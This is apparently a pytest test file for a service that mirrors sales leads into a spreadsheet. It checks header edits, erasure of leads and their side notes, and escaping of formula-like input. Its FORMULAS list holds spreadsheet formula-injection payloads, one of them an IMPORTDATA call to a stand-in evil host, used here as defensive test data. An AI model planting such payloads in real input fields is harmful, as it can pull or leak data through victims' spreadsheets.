"""Headers that people change, words that look like formulas, and leads that were erased."""

import json

import pytest
from sqlalchemy import text

from shared.db.metadata import metadata
from shared.vocabulary import Breaker
from tests.sheet_desk import NOTES, SheetDesk
from workers.ports import SheetMisshapen

FORMULAS = ('=IMPORTDATA("http://evil.example")', "\t=1+1", "+1234", "-1+1", "@SUM(1)", "\uff1d1+1", " =1")
PHONE = "+4915112345678"
CANARY = "Xenophon"


async def test_values_follow_their_headers(sheet_desk: SheetDesk) -> None:
    """Fault 57: people swap and move columns, ours and theirs."""
    anna = await sheet_desk.capture("Anna")
    await sheet_desk.flush()
    sheet_desk.note({anna: "vip"})
    human = sheet_desk.stub.human
    for edit in (("swap_columns", "name", "email"), ("move_column", "lead_id", 7), ("swap_columns", NOTES, "phone")):
        human.do(*edit)
        await sheet_desk.rename(anna, f"Anna after {edit[0]} of {edit[1]}")
        await sheet_desk.capture(f"Friend{edit[1]}")
        await sheet_desk.flush()
        await sheet_desk.is_mirrored()
        assert sheet_desk.beside() == {str(anna): "vip"}


@pytest.mark.parametrize("header", ["Lead ID", "LEAD_ID", " lead-id "])
async def test_a_header_in_another_spelling_is_the_same(sheet_desk: SheetDesk, header: str) -> None:
    await sheet_desk.capture("Anna")
    await sheet_desk.flush()
    sheet_desk.stub.human.rename_header("lead_id", header)
    await sheet_desk.capture("Ben")
    await sheet_desk.flush()
    assert [row["name"] for row in sheet_desk.stub.rows()] == ["Anna", "Ben"]
    assert (await sheet_desk.waiting()).pending == 0


@pytest.mark.parametrize(
    ("edit", "complaint"),
    [
        (("rename_header", "phone", "Telephone"), "the column phone is missing"),
        (("delete_column", "email"), "the column email is missing"),
        (("rename_header", "phone", "email"), "the column phone is missing, there are two columns email"),
        (("delete_row", 1), "the column lead_id is missing"),
        (("insert_column", 1, "Name"), "there are two columns name"),
    ],
)
async def test_without_one_of_our_headers_nothing_is_written_and_nothing_lost(
    sheet_desk: SheetDesk, edit: tuple[str, ...], complaint: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Fault 57: the log says which column is missing, and leads wait until it is back."""
    anna = await sheet_desk.capture("Anna")
    await sheet_desk.flush()
    before = sheet_desk.stub.grid
    sheet_desk.stub.human.do(*edit)
    spoilt = sheet_desk.stub.grid
    await sheet_desk.rename(anna, "Hannah")
    with pytest.raises(SheetMisshapen, match=complaint):
        await sheet_desk.flush()
    assert "sheet_misshapen" in capsys.readouterr().out
    assert sheet_desk.stub.grid == spoilt
    assert (await sheet_desk.waiting()).pending == 1
    state = await sheet_desk.state()
    assert (state.breaker, state.error) == (Breaker.OPEN, "sheet_misshapen")

    sheet_desk.stub.reset()
    for row, cells in enumerate(before, 1):
        sheet_desk.stub.human.insert_row(row, *(f"'{cell}" if cell else "" for cell in cells))
    await sheet_desk.flush()
    await sheet_desk.is_mirrored()


async def test_a_tab_with_something_else_in_it_is_left_alone(sheet_desk: SheetDesk) -> None:
    sheet_desk.stub.human.edit("B2", "Shopping list")
    await sheet_desk.capture("Anna")
    with pytest.raises(SheetMisshapen):
        await sheet_desk.flush()
    assert sheet_desk.stub.grid == [[], ["", "Shopping list"]]


@pytest.mark.parametrize("words", FORMULAS)
async def test_what_a_visitor_writes_is_never_worked_out(sheet_desk: SheetDesk, words: str) -> None:
    """Fault 58: not by Google, and not by a program that opens an export of the sheet; phones stay readable."""
    lead_id = await sheet_desk.capture(words, "anna@example.com", PHONE)
    await sheet_desk.summarise(lead_id, f"{words} and more")
    await sheet_desk.flush()
    await sheet_desk.is_mirrored()
    [row] = sheet_desk.stub.rows()
    assert row["name"] == f"'{words.strip()}"  # nobody's name begins with a blank
    assert row["intent_summary"] == f"'{words} and more"
    assert row["phone"] == PHONE
    assert "#EVALUATED" not in map(str, row.values())


async def test_an_erased_lead_leaves_the_sheet_with_all_that_was_beside_it(sheet_desk: SheetDesk) -> None:
    """Fault 84: what is left of it neither there nor in the database brings it back."""
    kept = await sheet_desk.capture("Anna")
    erased = await sheet_desk.capture(CANARY, f"{CANARY}@example.com", PHONE)
    await sheet_desk.flush()
    sheet_desk.note({kept: "vip", erased: f"{CANARY} called"})
    assert CANARY in json.dumps(sheet_desk.stub.grid)

    await sheet_desk.erase(erased)
    await sheet_desk.flush()
    for _ in range(2):
        assert CANARY.lower() not in json.dumps(sheet_desk.stub.grid).lower()
        assert CANARY.lower() not in (await _everything_in(sheet_desk)).lower()
        assert PHONE not in json.dumps(sheet_desk.stub.grid)
        await sheet_desk.is_mirrored()
        assert sheet_desk.beside() == {str(kept): "vip"}
        await sheet_desk.reconcile()
    assert len(sheet_desk.stub.grid) == 2


async def test_a_lead_erased_before_it_arrived_never_does(sheet_desk: SheetDesk) -> None:
    """Fault 84: also when its row was on its way and nobody knew whether it arrived."""
    erased = await sheet_desk.capture(CANARY)
    await sheet_desk.capture("Anna")
    for number in (3, 4, 5):
        sheet_desk.stub.fail(number, "503_after")
    await sheet_desk.try_to_flush()
    assert CANARY in json.dumps(sheet_desk.stub.grid)
    await sheet_desk.erase(erased)
    await sheet_desk.flush()
    await sheet_desk.is_mirrored()
    assert CANARY not in json.dumps(sheet_desk.stub.grid)


async def test_a_merged_pair_is_erased_together(sheet_desk: SheetDesk) -> None:
    """Fault 84: the row of a lead that became a part of another goes, too, with the notes beside it."""
    anna = await sheet_desk.capture("Anna")
    other = await sheet_desk.capture("A. Smith", phone=PHONE)
    await sheet_desk.flush()
    sheet_desk.note({other: f"met {CANARY}"})
    await sheet_desk.capture("Anna", "anna@example.com", PHONE)
    await sheet_desk.flush()
    await sheet_desk.erase(anna)
    await sheet_desk.flush()
    assert sheet_desk.stub.rows() == []
    assert (await sheet_desk.waiting()).pending == 0


async def _everything_in(desk: SheetDesk) -> str:
    """Return every value of every table."""
    async with desk.stack.database.engine.connect() as connection:
        names = [table.name for table in metadata.sorted_tables]
        rows = [(await connection.execute(text(f'SELECT * FROM "{name}"'))).all() for name in names]  # noqa: S608
    return repr(rows)
